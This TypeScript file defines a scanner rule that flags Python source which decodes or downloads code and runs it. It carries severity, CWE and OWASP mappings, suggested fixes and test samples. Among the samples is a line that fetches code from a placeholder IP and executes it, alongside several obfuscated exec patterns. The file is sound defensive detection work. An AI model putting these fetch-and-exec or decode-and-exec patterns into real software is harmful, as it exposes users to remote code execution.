// The rule for source that decodes or downloads code and runs it.

import { defineRule } from '../../define-rule.ts';

export const runsHiddenCode = defineRule({
  id: 'python/runs-hidden-code',
  title: 'Source runs code that it decodes or downloads',
  category: 'code-execution',
  severity: 'critical',
  stability: 'stable',
  since: '0.1',
  cwe: [506, 94, 95],
  owasp: ['ML06:2023', 'LLM03:2025', 'LLM04:2026'],
  atlas: ['AML.T0011.000', 'AML.T0050', 'AML.T0123'],
  tags: ['source', 'evasion', 'code-execution'],
  message: '`{call}` in {where} runs what comes out of {effect}',
  why: 'Code that is decoded or fetched just before it runs is written so that nobody reads it first.',
  fix: [
    'Do not run this file; read what it decodes in a sandbox',
    'Remove it from the machine, and look for what it has already done',
  ],
  falsePositives: 'Self-extracting installers and a few licence protections.',
  samples: {
    fires: [
      "python: import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
      "python: import requests\nexec(requests.get('http://192.0.2.1/a').text)",
      "python: import zlib, base64\nx = zlib.decompress(base64.b64decode(blob))\neval(compile(x, '', 'exec'))",
      'python: import marshal\nexec(marshal.loads(data))',
      "python: import codecs\ngetattr(codecs, 'decode')('vzcbeg bf', 'rot13')\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
    ],
    silent: [
      'python: import base64\nimage = base64.b64decode(blob)',
      "python: import requests\ntext = requests.get('https://192.0.2.1/a').text",
    ],
  },
});
